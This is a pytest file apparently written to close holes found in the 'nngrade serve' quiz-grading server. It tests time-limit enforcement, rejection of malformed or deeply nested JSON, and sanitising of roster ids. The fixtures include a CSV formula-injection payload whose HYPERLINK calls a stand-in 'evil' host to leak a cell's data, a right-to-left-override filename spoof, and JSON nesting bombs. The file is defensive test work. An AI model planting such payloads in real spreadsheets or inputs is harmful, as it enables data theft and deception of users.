"""Holes an attack pass found in nngrade serve, each closed: a timed student's clock starts at the first request
of any kind (not only when the page renders), malformed JSON is the client's 400 (never "a fault of the
grader"), check and run obey the clock, and links.csv neither runs as a spreadsheet formula nor takes ids that
spoof how a name reads."""
from __future__ import annotations

import csv
import json
import sqlite3
import time

import pytest
from click.testing import CliRunner

from grader.cli import cli
from grader.serve import settings as settings_mod
from grader.serve.store import Store

from .conftest import ROOT
from .test_serve_http import FORMULA, WEEK1, Client, make, open_link, saved, token_of


@pytest.fixture
def db(tmp_path):
    return tmp_path / "gradebook.sqlite"


def bare(app, link) -> Client:
    """A client that opens the link but follows no redirect: /quiz is never loaded."""
    client = Client(app)
    r = open_link(client.c, token_of(link))
    assert r.status_code == 303
    return client


def test_a_timed_students_clock_starts_when_the_link_is_opened_not_when_the_page_renders(db):
    server, app, links = make(db, settings=settings_mod.Settings(time_limit=600, feedback="immediate"))
    bare(app, links["alice"])                                  # opened the link, never loaded /quiz
    started = Store(db).started(server.quiz.id, "alice")
    assert started is not None and abs(started - time.time()) < 60
    alice = Client(app, links["alice"])                        # coming back later does not restart it
    assert Store(db).started(server.quiz.id, "alice") == started
    with sqlite3.connect(db) as con:
        con.execute("UPDATE serve_starts SET started_at=?", (time.time() - 700,))
    for url, data in (("/api/save", {"address": FORMULA, "value": "y", "rev": 5}),
                      ("/api/submit", {"submit_id": "late-submit-1"}), ("/api/check", {"address": FORMULA}),
                      ("/api/run", {"address": "sigmoid-derivative/code"})):
        r = alice.post(url, data)
        assert r.status_code == 403 and r.get_json()["error"] == "serve_closed", (url, r.get_json())


@pytest.mark.parametrize("raw", [b"[" * 5000 + b"]" * 5000, b'{"a":' * 3000 + b"1" + b"}" * 3000,
                                 json.dumps({"address": FORMULA, "value": "1\ud800", "rev": 1}).encode(),
                                 json.dumps({"address": "_code", "value": "x = '\udfff'", "rev": 1}).encode()])
def test_malformed_json_is_a_400_of_the_request_never_a_grader_fault(db, raw):
    server, app, links = make(db)
    alice = Client(app, links["alice"])
    r = alice.c.post("/api/save", data=raw, headers={"X-CSRF-Token": alice.csrf, "Content-Type": "application/json"})
    assert r.status_code == 400, r.data[:300]
    assert "serve_internal" not in r.data.decode("utf-8", "replace")
    assert saved(db, "alice") == {}


def test_links_csv_ids_are_neutralised_and_spoofing_ids_refused(tmp_path):
    roster = tmp_path / "roster.csv"
    roster.write_text('student\n"=HYPERLINK(""http://evil/""&A1,""x"")"\n@SUM(1+1)\nalice\n', encoding="utf-8")
    out = tmp_path / "links.csv"
    res = CliRunner().invoke(cli, ["roster", str(WEEK1), str(roster), "-o", str(out), "--db", str(tmp_path / "g.db"),
                                   "--course", str(ROOT)])
    assert res.exit_code == 0, res.output
    ids = [row[0] for row in csv.reader(out.open(encoding="utf-8"))][1:]
    assert all(not i.startswith(("=", "+", "-", "@")) for i in ids) and "alice" in ids
    spoof = tmp_path / "spoof.csv"
    spoof.write_text("student\nalice\u202egnp.exe\n", encoding="utf-8")
    res = CliRunner().invoke(cli, ["roster", str(WEEK1), str(spoof), "-o", str(tmp_path / "l2.csv"),
                                   "--db", str(tmp_path / "g2.db"), "--course", str(ROOT)])
    assert res.exit_code == 2 and "not a usable student id" in res.output
